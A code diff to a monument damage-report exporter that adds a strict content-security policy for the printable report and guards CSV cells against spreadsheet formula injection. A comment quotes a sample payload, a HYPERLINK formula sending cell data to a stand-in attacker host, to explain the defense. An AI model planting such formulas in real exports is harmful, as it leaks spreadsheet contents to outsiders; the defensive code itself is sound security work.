@@ -67,6 +67,14 @@ CSV_COLUMNS = [
     "source_ids",
     "sources",
 ]
+# The printable report holds everything it shows (styles inline, photos as data: URLs) and
+# runs no script: its policy allows exactly that, so text that slipped through escaping could
+# neither run, load anything, submit a form nor be framed. Styles must be inline: the
+# colour swatches are style attributes.
+REPORT_CSP = (
+    "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; "
+    "form-action 'none'; frame-ancestors 'none'"
+)
 # Colours of the damage scale, from intact to destroyed, and grey for no assessment.
 LEVEL_COLOURS = {
     DamageLevel.no_visible_damage: "#1a9850",
@@ -136,14 +144,30 @@ def _citation(source: ReportSource) -> str:
     return f"[{source.number}] {said}" + (f" <{source.url}>" if source.url else "")
 
 
+# A spreadsheet takes a cell starting with one of these for a formula (OWASP's list):
+# `=HYPERLINK("http://evil.example/?"&A1)` in a monument's name would run in the reader's
+# spreadsheet. Such text cells are written with a leading apostrophe, which spreadsheets
+# show as text and hide; numbers (a negative longitude) are left as they are.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: object) -> object:
+    """A CSV cell that no spreadsheet evaluates as a formula."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def to_csv(report: StateOfConservationReport) -> bytes:
     """One row per monument, columns in a fixed order; UTF-8 with a byte-order mark so that
-    spreadsheet programs show Arabic names intact."""
+    spreadsheet programs show Arabic names intact; text never read as a formula."""
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
     writer.writeheader()
     for entry in report.monuments:
-        writer.writerow(_flat(report, entry))
+        writer.writerow(
+            {name: spreadsheet_safe(value) for name, value in _flat(report, entry).items()}
+        )
     return buffer.getvalue().encode("utf-8-sig")
 
 
